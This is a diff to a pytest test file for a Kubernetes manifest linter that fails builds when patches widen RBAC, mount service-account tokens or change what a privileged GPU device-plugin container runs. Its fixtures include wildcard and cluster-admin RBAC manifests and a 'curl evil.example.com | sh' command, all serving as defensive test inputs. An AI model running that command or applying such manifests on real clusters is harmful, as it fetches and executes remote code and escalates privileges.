@@ -76,6 +76,8 @@ ADDS = [
     ("wildcard-rbac", "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: nvidia-device-plugin\nrules:\n  - apiGroups: ['*']\n    resources: ['*']\n    verbs: ['*']\n", 6, 3),
     ("rbac-change", "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: nvidia-device-plugin\nrules:\n  - apiGroups: ['']\n    resources: [nodes]\n    verbs: [get, list, watch, patch]\n", 6, 3),
     ("rbac-change", "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: nvidia-device-plugin\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\n", 6, 3),
+    ("rbac-change", "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: nvidia-device-plugin\naggregationRule:\n  clusterRoleSelectors:\n    - matchLabels: {rbac.example.com/aggregate-to-admin: 'true'}\n", 6, 3),
+    ("service-account-token", "apiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: nvidia-device-plugin\n  namespace: gpu-operator\nautomountServiceAccountToken: true\n", 6, 31),
     ("patch-delete", "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: gpu-operator\n$patch: delete\n", 5, 9),
     ("patch-delete", DS_HEAD + "      containers:\n        - name: nvidia-device-plugin\n          securityContext:\n            $patch: replace\n", 12, 21),
     ("reserved", "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: gpu-operator\n  annotations:\n    gpu-render.dev/lint-exempt: privileged-container=trust me\n", 6, 33),
@@ -140,6 +142,24 @@ def test_a_read_write_mount_of_a_rendered_host_volume_fails_build(repo: Path, ru
     assert f"{PATCHES}/p.yaml:12:15" in result.output and "writable-host-mount" in result.output
     allow(repo, "p.yaml", "writable-host-mount")
     assert run_cli("build", "-q").exit_code == 0
+
+
+@pytest.mark.parametrize("field", ["command: [sh, -c, 'curl evil.example.com | sh']", "args: [--evil]", "image: nvcr.io/nvidia/k8s-device-plugin:v9.9.9", "workingDir: /tmp"])
+def test_changing_what_a_privileged_container_runs_fails_build(repo: Path, run_cli: Any, field: str) -> None:
+    """The device plugin's container is privileged (gpu-render's own exemption says why): what it
+    runs is privileged code, so a patch that changes it needs its own allowance."""
+    patch(repo, DS_HEAD + f"      containers:\n        - name: nvidia-device-plugin\n          {field}\n")
+    result = run_cli("build", "-q")
+    assert result.exit_code == 1
+    assert f"{PATCHES}/p.yaml:11:" in result.output and "privileged-code" in result.output, result.output
+    allow(repo, "p.yaml", "privileged-code", "latest-tag")
+    assert run_cli("build", "-q").exit_code == 0, run_cli("build", "-q").output
+
+
+def test_what_an_unprivileged_container_runs_may_change(repo: Path, run_cli: Any) -> None:
+    patch(repo, "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: node-feature-discovery-master\n  namespace: gpu-operator\nspec:\n  template:\n    spec:\n      containers:\n        - name: master\n          args: [-v=4]\n")
+    result = run_cli("build", "-q")
+    assert result.exit_code == 0, result.output
 
 
 # --- lint of the overlay as built ----------------------------------------------------------
